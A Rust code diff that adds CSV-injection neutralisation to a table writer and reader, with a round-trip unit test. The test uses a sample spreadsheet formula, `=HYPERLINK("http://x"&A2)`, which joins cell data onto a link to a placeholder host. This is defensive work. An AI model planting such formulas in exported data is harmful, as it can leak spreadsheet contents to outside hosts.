@@ -130,7 +130,7 @@ impl Table {
             let mut cells = Vec::with_capacity(record.len());
             for (i, cell) in record.iter().enumerate() {
                 match std::str::from_utf8(cell) {
-                    Ok(s) => cells.push(s.to_string()),
+                    Ok(s) => cells.push(restore_formula(s).to_string()),
                     Err(e) => {
                         return Err(TableError::Malformed {
                             file,
@@ -221,7 +221,10 @@ impl Table {
         Ok(())
     }
 
-    /// Write as CSV (always quoted where needed, `\n` line endings).
+    /// Write as CSV (always quoted where needed, `\n` line endings). A cell that a spreadsheet
+    /// would evaluate as a formula (it starts with `=`, `+`, `-`, `@`, a tab or a carriage
+    /// return) is written behind a `'` (OWASP's CSV-injection rule); [`Table::from_bytes`]
+    /// removes that `'` again, so a table reads back as it was.
     pub fn write_to(&self, w: impl Write) -> Result<(), TableError> {
         let io = |e: csv::Error| TableError::Io {
             file: self.path.clone(),
@@ -230,7 +233,9 @@ impl Table {
         let mut wtr = csv::WriterBuilder::new().from_writer(w);
         wtr.write_record(&self.headers).map_err(io)?;
         for r in &self.rows {
-            wtr.write_record(&r.cells).map_err(io)?;
+            let cells: Vec<std::borrow::Cow<'_, str>> =
+                r.cells.iter().map(|c| neutralize_formula(c)).collect();
+            wtr.write_record(cells.iter().map(|c| c.as_ref())).map_err(io)?;
         }
         wtr.flush().map_err(|error| TableError::Io {
             file: self.path.clone(),
@@ -245,6 +250,26 @@ impl Table {
             error,
         })?;
         self.write_to(std::io::BufWriter::new(f))
+    }
+}
+
+/// Characters that make a spreadsheet read a cell as a formula.
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// `cell` made inert for spreadsheets: behind a `'` when it starts like a formula.
+pub fn neutralize_formula(cell: &str) -> std::borrow::Cow<'_, str> {
+    if cell.starts_with(FORMULA_STARTS) {
+        std::borrow::Cow::Owned(format!("'{cell}"))
+    } else {
+        std::borrow::Cow::Borrowed(cell)
+    }
+}
+
+/// The inverse of [`neutralize_formula`].
+fn restore_formula(cell: &str) -> &str {
+    match cell.strip_prefix('\'') {
+        Some(rest) if rest.starts_with(FORMULA_STARTS) => rest,
+        _ => cell,
     }
 }
 
@@ -327,6 +352,22 @@ mod tests {
             eprintln!("SKIP: {} not found", p.display());
             None
         }
+    }
+
+    #[test]
+    fn formula_cells_are_neutralized_and_read_back() -> Result<(), TableError> {
+        let mut t = Table::new("t.csv", vec!["title".into(), "n".into()]);
+        t.push(vec!["=HYPERLINK(\"http://x\"&A2)".into(), "24".into()])?;
+        t.push(vec!["@SUM(A1)".into(), "-45".into()])?;
+        let mut out = Vec::new();
+        t.write_to(&mut out)?;
+        let text = String::from_utf8(out).expect("utf8");
+        assert!(text.contains("\"'=HYPERLINK(\"\"http://x\"\"&A2)\""), "{text}");
+        assert!(text.contains("'@SUM(A1),'-45"), "{text}");
+        let back = Table::from_bytes("t.csv", text.as_bytes())?;
+        assert_eq!(back.rows()[0].cells[0], "=HYPERLINK(\"http://x\"&A2)");
+        assert_eq!(back.rows()[1].cells, vec!["@SUM(A1)", "-45"]);
+        Ok(())
     }
 
     #[test]
